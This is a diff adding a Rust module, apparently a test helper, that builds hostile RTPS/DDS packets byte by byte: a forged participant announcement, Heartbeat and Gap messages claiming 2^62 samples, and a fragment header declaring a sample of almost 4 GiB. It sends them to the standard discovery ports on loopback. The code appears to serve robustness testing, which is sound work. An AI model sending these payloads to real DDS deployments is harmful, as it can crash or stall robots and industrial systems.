@@ -1,0 +1,112 @@
+//! RTPS packets as an attacker makes them: byte by byte, and with numbers that no sane peer sends.
+
+use std::net::UdpSocket;
+
+/// The participant that the packets pretend to come from.
+const PREFIX: [u8; 12] = [1, 0x10, 0xBA, 0xD0, 0xBA, 0xD0, 1, 2, 3, 4, 5, 6];
+const SPDP_WRITER: [u8; 4] = [0, 1, 0, 0xC2];
+const SPDP_READER: [u8; 4] = [0, 1, 0, 0xC7];
+const PUBLICATIONS_WRITER: [u8; 4] = [0, 0, 3, 0xC2];
+const PUBLICATIONS_READER: [u8; 4] = [0, 0, 3, 0xC7];
+
+/// A number that would take for ever to count to.
+const FAR: u64 = 1 << 62;
+/// Participants of one host that are looked for.
+const PARTICIPANTS: u16 = 4;
+
+/// An attack of one packet.
+#[derive(Debug, Clone, Copy)]
+pub(super) enum Attack {
+    /// A writer that claims to have sent 2⁶² samples.
+    Heartbeat,
+    /// One that says 2⁶² of them are irrelevant.
+    Gap,
+    /// A first fragment of a sample of almost 4 GiB.
+    Fragment,
+}
+
+impl Attack {
+    /// The packet; a higher count makes it a new one.
+    pub(super) fn packet(self, count: u32) -> Vec<u8> {
+        let ids = [PUBLICATIONS_READER, PUBLICATIONS_WRITER].concat();
+        match self {
+            Self::Heartbeat => {
+                let body = [ids, number(1), number(FAR), count.to_le_bytes().to_vec()].concat();
+                packet(0x07, 0x01, &body)
+            }
+            Self::Gap => packet(0x08, 0x01, &[ids, number(1), number(FAR), vec![0; 4]].concat()),
+            Self::Fragment => {
+                let size = 0xF000_0000_u32.to_le_bytes();
+                let fragment = [&1_u32.to_le_bytes()[..], &[1, 0], &[0, 4], &size].concat();
+                let number = number(u64::from(count));
+                let body = [vec![0, 0, 28, 0], ids, number, fragment, vec![0; 1024]].concat();
+                packet(0x16, 0x01, &body)
+            }
+        }
+    }
+}
+
+/// Announces the attacker's participant, which is said to listen on this port of the loopback.
+pub(super) fn announcement(port: u16, count: u32) -> Vec<u8> {
+    let locator =
+        [&1_u32.to_le_bytes()[..], &u32::from(port).to_le_bytes(), &[0; 12], &[127, 0, 0, 1]].concat();
+    let guid = [&PREFIX[..], &[0, 0, 1, 0xC1]].concat();
+    let parameters: [(u16, &[u8]); 7] = [
+        (0x15, &[2, 4, 0, 0]),
+        (0x16, &[1, 0x10, 0, 0]),
+        (0x50, &guid),
+        (0x32, &locator),
+        (0x31, &locator),
+        (0x02, &[10, 0, 0, 0, 0, 0, 0, 0]),
+        (0x58, &[0x3F, 0x0C, 0, 0]),
+    ];
+    let mut list = vec![0, 3, 0, 0];
+    for (id, value) in parameters {
+        list.extend(id.to_le_bytes());
+        list.extend(u16::try_from(value.len()).unwrap().to_le_bytes());
+        list.extend(value);
+    }
+    list.extend([1, 0, 0, 0]);
+    let ids = [SPDP_READER, SPDP_WRITER].concat();
+    packet(0x15, 0x05, &[vec![0, 0, 16, 0], ids, number(u64::from(count)), list].concat())
+}
+
+/// A sequence number: the high half first.
+fn number(number: u64) -> Vec<u8> {
+    let [high, low] =
+        [number >> 32, number & 0xFFFF_FFFF].map(|half| u32::try_from(half).unwrap().to_le_bytes());
+    [high, low].concat()
+}
+
+/// A message with one submessage.
+fn packet(kind: u8, flags: u8, body: &[u8]) -> Vec<u8> {
+    let length = u16::try_from(body.len()).unwrap().to_le_bytes();
+    [b"RTPS", &[2, 4, 1, 0x10][..], &PREFIX, &[kind, flags], &length, body].concat()
+}
+
+/// Where participants of a domain on this host listen for each other.
+pub(super) struct Target {
+    socket: UdpSocket,
+    ports: Vec<u16>,
+}
+
+impl Target {
+    pub(super) fn new(domain: u16) -> Self {
+        let base = 7400 + 250 * domain;
+        let ports = (0..PARTICIPANTS)
+            .flat_map(|participant| [base + 10 + 2 * participant, base + 11 + 2 * participant]);
+        Self { socket: UdpSocket::bind(("127.0.0.1", 0)).unwrap(), ports: ports.collect() }
+    }
+
+    /// The port that packets come from.
+    pub(super) fn own_port(&self) -> u16 {
+        self.socket.local_addr().unwrap().port()
+    }
+
+    /// Sends a packet to all of them; where nobody listens, it is lost.
+    pub(super) fn send(&self, packet: &[u8]) {
+        for port in &self.ports {
+            let _ = self.socket.send_to(packet, ("127.0.0.1", *port));
+        }
+    }
+}
